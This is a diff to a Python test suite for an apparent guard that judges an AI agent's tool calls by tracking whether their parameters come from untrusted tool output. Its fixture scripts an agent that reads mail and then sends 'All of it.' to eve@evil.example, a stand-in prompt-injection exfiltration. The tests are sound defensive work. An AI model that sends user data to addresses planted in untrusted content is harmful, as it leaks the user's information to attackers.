@@ -63,7 +63,7 @@ async def journal():
         "Done.",
     ]
     agent = rc.Agent(ScriptedModel(script), [read_inbox, send_mail], journal=kept)
-    await agent.run("Read my mail, and say hello to ann@home.example.", run="first")
+    await agent.run("Read mail M-1234, and say hello to ann@home.example.", run="first")
     DONE.clear()
     return kept
 
@@ -85,7 +85,8 @@ async def test_calls_are_judged_where_they_were_made_and_nothing_runs(journal):
     assert str(trial).splitlines()[:3] == [
         (
             'first: send_mail({"to":"eve@evil.example","body":"All of it."}) asked: what is at $.to '
-            "comes from what read_inbox returned, not from the user"
+            "comes from what read_inbox returned, where outsiders can write: it runs if the user types "
+            "it, or an intent states it"
         ),
         "  then: returned",
         "  $.to = eve@evil.example: untrusted (read_inbox)",
@@ -93,16 +94,16 @@ async def test_calls_are_judged_where_they_were_made_and_nothing_runs(journal):
     assert str(trial).splitlines()[-1] == "runs: 1, calls: 4 (2 allowed, 1 asked, 1 not judged)"
 
 
-async def test_without_facts_everything_is_the_worst(journal):
+async def test_without_facts_every_parameter_is_a_target(journal):
     trial = await try_rules(journal, Rules(otherwise="deny"))
-    assert [fate for _, fate in fates(trial)] == ["allowed", "denied", "denied", "not judged"]
+    assert [fate for _, fate in fates(trial)] == ["allowed", "denied", "allowed", "not judged"]
 
 
 async def test_rules_and_the_tools_own_facts_count(journal):
     rules = Rules(policy=(Rule(action="deny", tools=("send_*",)), Rule(action="allow")))
     tools = parse_facts(FACTS, "x").over([read_inbox, send_mail])
     trial = await try_rules(journal, rules, tools, runs=["first"])
-    assert [fate for _, fate in fates(trial)] == ["allowed", "denied", "denied", "not judged"]
+    assert [fate for _, fate in fates(trial)] == ["allowed", "denied", "allowed", "not judged"]
     assert trial.calls[2].reason == "a rule says deny"
 
 
@@ -123,9 +124,9 @@ async def test_the_trial_says_what_the_run_itself_says(journal):
     assert trial.calls[1].before == "denied"
 
 
-async def test_a_grant_that_nobody_stated_is_said(journal):
-    trial = await try_rules(journal, Rules(grant="model"), facts=parse_facts(FACTS, "x"))
-    assert trial.notes == ("first: no model has stated a grant then; judged without one",)
+async def test_that_nobody_stated_any_intents_is_said(journal):
+    trial = await try_rules(journal, Rules(intents="model"), facts=parse_facts(FACTS, "x"))
+    assert trial.notes == ("first: no model has stated intents then; judged without any",)
 
 
 async def test_a_run_that_is_not_there_is_named(journal):
